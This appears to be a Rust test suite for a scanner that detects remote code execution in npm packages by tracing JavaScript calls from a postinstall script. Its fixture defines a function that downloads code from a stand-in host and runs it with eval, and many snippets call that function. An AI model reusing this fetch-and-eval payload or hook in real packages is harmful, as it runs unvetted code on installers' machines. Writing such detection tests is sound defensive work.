use crate::flow::testing::remote_code;
use crate::unpack::{Entry, text_file as file};
use customs_model::Zone;

const GO: &str = "const go = () => require('https').get('https://a.invalid/b', (r) => {
    let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)) });";

fn runs(entries: Vec<Entry>) -> bool {
    remote_code(entries) > Some(Zone::Command)
}

/// Whether the payload runs where the script says this.
fn here(code: &str) -> bool {
    required(&format!("{GO}\n{code}"), "")
}

/// Whether the payload runs that `x.js` hands out, and that `z.js` has, where the script
/// says this, and `y.js` and `z.js` hand that out.
fn required(asks: &str, hands_out: &str) -> bool {
    written("i.js", asks, hands_out)
}

fn written(script: &str, asks: &str, hands_out: &str) -> bool {
    let manifest = format!(
        r#"{{"name": "a", "version": "1.0.0", "scripts": {{"postinstall": "node {script}"}}}}"#
    );
    runs(vec![
        file("package.json", &manifest),
        file(script, asks),
        file(
            "x.js",
            &format!("{GO}\nexports.go = go; exports.calm = () => 1;"),
        ),
        file("y.js", hands_out),
        file("z.js", &format!("{GO}\n{hands_out}")),
    ])
}

#[test]
fn what_compilers_write_for_import_is_followed() {
    let is_module = "Object.defineProperty(exports, '__esModule', { value: true });";
    let given = format!("{is_module} exports.default = void 0; var _d = go; exports.default = _d;");
    for helper in [
        "var __importDefault = (this && this.__importDefault) || function (mod) {
             return (mod && mod.__esModule) ? mod : { 'default': mod } };
         const z = __importDefault(require('./z'));",
        "function _i(o) { return o && o.__esModule ? o : { default: o } } var z = _i(require('./z'));",
    ] {
        assert!(required(&format!("{helper} z.default()"), &given));
        assert!(required(&format!("{helper} (0, z.default)()"), &given));
        assert!(!required(helper, &given));
    }
    let star = "var __importStar = (this && this.__importStar) || function (m) {
        if (m && m.__esModule) return m; var r = {};
        if (m != null) for (var k in m) if (Object.prototype.hasOwnProperty.call(m, k)) r[k] = m[k];
        r['default'] = m; return r };
        const x = __importStar(require('./x')); const y = __importStar(require('./y'));";
    assert!(required(&format!("{star} x.go()"), ""));
    assert!(!required(&format!("{star} y.go()"), "exports.go = () => 1"));
    assert!(!required(&format!("{star} x.calm()"), ""));
}

#[test]
fn what_compilers_write_for_export_is_followed() {
    for hands_out in [
        "Object.assign(exports, require('./x'))",
        "const x = require('./x');
         Object.defineProperty(exports, 'go', { get: function () { return x.go } })",
        "function __export(m) { for (var p in m) exports[p] = m[p] } __export(require('./x'))",
        "const m = require('./x'); for (const p in m) exports[p] = m[p]",
        "require('tslib').__exportStar(require('./x'), exports)",
        "var b = (this && this.b) || (Object.create ? (function (o, m, k, k2) {
             if (k2 === undefined) k2 = k; var d = Object.getOwnPropertyDescriptor(m, k);
             if (!d) d = { enumerable: true, get: function () { return m[k] } };
             Object.defineProperty(o, k2, d) }) : (function (o, m, k, k2) { o[k2] = m[k] }));
         var s = (this && this.s) || function (m, exports) {
             for (var p in m) if (p !== 'default') b(exports, m, p) };
         s(require('./x'), exports)",
        "var _x = require('./x'); Object.keys(_x).forEach(function (key) {
             Object.defineProperty(exports, key, { get: function () { return _x[key] } }) })",
        "module.exports = { ...require('./x') }",
        "const e = exports; e.go = require('./x').go",
        "var e = module.exports = {}; e.go = require('./x').go",
        "this.go = require('./x').go",
    ] {
        assert!(required("require('./y').go()", hands_out), "{hands_out}");
        assert!(!required("require('./y').go", hands_out), "{hands_out}");
        assert!(!required("require('./y').calm()", hands_out), "{hands_out}");
    }
}

#[test]
fn names_that_a_bundler_puts_onto_an_object_are_followed() {
    let helpers = "var d = Object.defineProperty, n = Object.getOwnPropertyNames;
        var __export = (t, all) => { for (var a in all) d(t, a, { get: all[a], enumerable: true }) };
        var __copy = (to, from) => { for (let k of n(from)) d(to, k, { get: () => from[k] }); return to };
        var __toCommonJS = (m) => __copy(d({}, '__esModule', { value: true }), m);";
    let names = "var x = {}; __export(x, { go: () => go, calm: () => calm }); function calm() {}
        var w = {}; __export(w, { calm: () => calm });";
    let given = format!("{helpers} {names} module.exports = __toCommonJS(x);");
    assert!(required("require('./z').go()", &given));
    assert!(!required("require('./z').calm()", &given));
    assert!(!required("require('./z').other()", &given));
    assert!(here(&format!("{helpers} {names} x.go()")));
    assert!(!here(&format!("{helpers} {names} w.go()")));
    let webpack = "(function (m) { var c = {}; function r(i) { if (c[i]) return c[i].exports;
            var o = c[i] = { i: i, l: !1, exports: {} };
            return m[i].call(o.exports, o, o.exports, r), o.l = !0, o.exports } return r(0) })";
    let modules = |calls: &str| {
        here(&format!(
            "{webpack}([function (e, t, n) {{ {calls} }}, function (e, t) {{ e.exports = go }},
             function (e, t) {{ e.exports = () => 1 }}])"
        ))
    };
    assert!(modules("n(1)()"));
    assert!(!modules("n(2)()"));
    assert!(!modules("n(1)"));
}

#[test]
fn what_is_put_onto_a_function_or_a_class_is_called_there() {
    for given in [
        "module.exports = function () {}; module.exports.go = go;",
        "function F() {} F.go = go; module.exports = F;",
        "class A {} A.go = go; module.exports = A;",
        "const f = () => {}, m = { go }; Object.assign(f, m); module.exports = f;",
    ] {
        assert!(required("require('./z').go()", given), "{given}");
        assert!(!required("require('./z')", given), "{given}");
        assert!(!required("require('./z').other()", given), "{given}");
    }
    assert!(here("function f() {} f.run = go; f.run()"));
    assert!(!here("function f() {} f.run = go; f()"));
    assert!(!here("function f() {} function g() {} f.run = go; g.run()"));
    assert!(!here(
        "function f() {} exports.setup = () => { f.run = go }; f.run()"
    ));
    assert!(here(
        "function f() {} const setup = () => { f.run = go }; setup(); f.run()"
    ));
}

#[test]
fn a_method_of_a_prototype_runs_when_it_is_called() {
    for made in [
        "function A() {} A.prototype.run = function () { go() };",
        "function A() {} A.prototype = { run: function () { go() } };",
        "function A() {} var m = { run() { go() } }; Object.assign(A.prototype, m);",
        "function A() {} var p = A.prototype; p.run = function () { go() };",
        "function A() {} A.prototype.run = function () { this.step() };
         A.prototype.step = function () { go() };",
        "function B() {} B.prototype.run = function () { go() }; function A() {}
         require('util').inherits(A, B);",
        "function B() {} B.prototype.run = function () { go() }; function A() {}
         A.prototype = Object.create(B.prototype);",
        "function B() {} B.prototype.run = function () { go() }; class A extends B {}",
        "var A = (function () { function A() {} A.prototype.run = function () { go() };
         return A })();",
        "class A {} A.prototype.run = function () { go() };",
        "class B { run() { go() } } class A extends B { run() { super.run() } }",
    ] {
        assert!(here(&format!("{made} new A().run()")), "{made}");
        assert!(!here(&format!("{made} new A()")), "{made}");
        let given = format!("{made} module.exports = A;");
        let ask = "const A = require('./z'); new A()";
        assert!(required(&format!("{ask}.run()"), &given), "{made}");
        assert!(!required(ask, &given), "{made}");
    }
    let other = "function A() {} A.prototype.run = function () { go() };
        function C() {} C.prototype.run = function () {};";
    assert!(!here(&format!("{other} new C().run()")));
    assert!(here("const o = Object.create({ f: go }); o.f()"));
    assert!(!here(
        "const o = Object.create({ f: go }); const p = Object.create({}); p.f()"
    ));
}

#[test]
fn this_is_what_a_function_is_put_into() {
    assert!(here(
        "const app = { init() { this.start() }, start() { go() } }; app.init()"
    ));
    assert!(!here(
        "const app = { init() { this.stop() }, start() { go() }, stop() {} }; app.init()"
    ));
    assert!(here("const o = { f() { this.g() } }; o.g = go; o.f()"));
    assert!(!here(
        "const o = { f() { this.g() } }; const p = {}; p.g = go; o.f()"
    ));
    assert!(here(
        "class A { static create() { return new this } constructor() { this.f() }
        f() { go() } } A.create()"
    ));
    assert!(here("class A { static #p = go; static { this.#p() } }"));
}

#[test]
fn a_getter_runs_when_its_property_is_read() {
    for read in [
        "o.x",
        "const { x } = o",
        "({ ...o })",
        "Object.values(o)",
        "JSON.stringify(o)",
    ] {
        assert!(
            here(&format!("const o = {{ get x() {{ go() }} }}; {read}")),
            "{read}"
        );
        assert!(
            !here(&format!("const o = {{ x() {{ go() }} }}; {read}")),
            "{read}"
        );
    }
    assert!(!here("const o = { get x() { go() } }; o.y"));
    assert!(!here(
        "const o = { get x() { go() } }; const p = { get x() {} }; p.x"
    ));
    assert!(!here(
        "const o = { get x() { go() } }; exports.f = () => o.x"
    ));
    assert!(here("const o = { set x(v) { go() } }; o.x = 1"));
    assert!(!here("const o = { set x(v) { go() } }; o.x"));
    assert!(here(
        "const o = {}; Object.defineProperty(o, 'x', { get() { go() } }); o.x"
    ));
    assert!(here(
        "const o = { get run() { return () => go() } }; o.run()"
    ));
    assert!(!here(
        "const o = { get run() { return () => go() } }; o.run"
    ));
}

#[test]
fn methods_that_the_language_calls_run_where_it_does() {
    for (method, used) in [
        ("toString", "`${@}`"),
        ("toString", "'a' + @"),
        ("toString", "String(@)"),
        ("valueOf", "@ < 2"),
        ("[Symbol.toPrimitive]", "+@"),
        ("[Symbol.iterator]", "for (const x of @);"),
        ("[Symbol.iterator]", "[...@]"),
        ("then", "(async () => { await @ })()"),
        ("toJSON", "JSON.stringify(@)"),
    ] {
        let object = format!("const o = {{ {method}() {{ go() }} }}; const p = {{}};");
        assert!(
            here(&format!("{object} {}", used.replace('@', "o"))),
            "{used}"
        );
        assert!(
            !here(&format!("{object} {}", used.replace('@', "p"))),
            "{used}"
        );
        assert!(!here(&object), "{method}");
        let class = format!("class A {{ {method}() {{ go() }} }} const o = new A;");
        assert!(
            here(&format!("{class} {}", used.replace('@', "o"))),
            "{used}"
        );
        assert!(!here(&class), "{method}");
    }
    assert!(here("1 instanceof { [Symbol.hasInstance]() { go() } }"));
}

#[test]
fn parts_of_typescript_run_where_they_stand() {
    let typed = |code: &str| written("i.ts", &format!("{GO}\n{code}"), "");
    assert!(typed("namespace N { export function f() { go() } } N.f()"));
    assert!(!typed("namespace N { export function f() { go() } }"));
    assert!(typed("namespace A.B { export const f = go } A.B.f()"));
    assert!(!typed(
        "namespace N { export function f() { go() } export function g() {} } N.g()"
    ));
    assert!(typed("function d(c: any) { go() } @d class A {}"));
    assert!(typed(
        "const d = (n: number) => (c: any) => { go() }; class A { @d(1) f() {} }"
    ));
    assert!(!typed(
        "const d = (c: any) => c; @d class A { run() { go() } }"
    ));
    assert!(typed("{ using r = { [Symbol.dispose]() { go() } }; }"));
}

#[test]
fn a_module_is_asked_for_in_other_ways() {
    for asks in [
        "require.call(null, './x').go()",
        "require.apply(module, ['./x']).go()",
        "Reflect.apply(require, null, ['./x']).go()",
        "require.bind(null, './x')().go()",
        "module.constructor._load('./x').go()",
        "module.require('./x').go()",
    ] {
        assert!(required(asks, ""), "{asks}");
        let calm = asks.replace("go()", "calm()");
        assert!(!required(&calm, ""), "{calm}");
    }
}
